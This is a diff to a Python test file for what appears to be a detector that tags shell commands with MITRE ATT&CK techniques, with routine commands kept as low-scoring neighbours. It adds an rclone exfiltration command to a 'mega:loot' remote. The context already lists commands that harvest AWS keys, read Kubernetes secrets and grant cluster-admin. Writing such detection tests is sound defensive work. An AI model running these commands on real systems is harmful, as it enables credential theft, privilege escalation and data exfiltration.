@@ -357,6 +357,7 @@ TOOLS_AND_ACTS = [
     ("grep -rEo 'AKIA[0-9A-Z]{16}' /home /srv", "T1552.001"),
     ("kubectl get secret db -o jsonpath={.data.password}", "T1552.007"),
     ("kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default", "T1098.006"),
+    ("rclone copy /srv/data mega:loot --transfers 16", "T1567.002"),
 ]
 
 
@@ -472,6 +473,7 @@ def test_less_common_techniques_are_named(line: str, technique: str) -> None:
     "find /var/log -name *.gz -mtime +30 -delete",
     "find /srv/backups -delete",
     "cp /srv/app/release.tgz /tmp/release.tgz",
+    "rclone sync /var/backups b2:corp-backups",
 ])
 def test_their_routine_neighbours_stay_weak(line: str) -> None:
     assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))
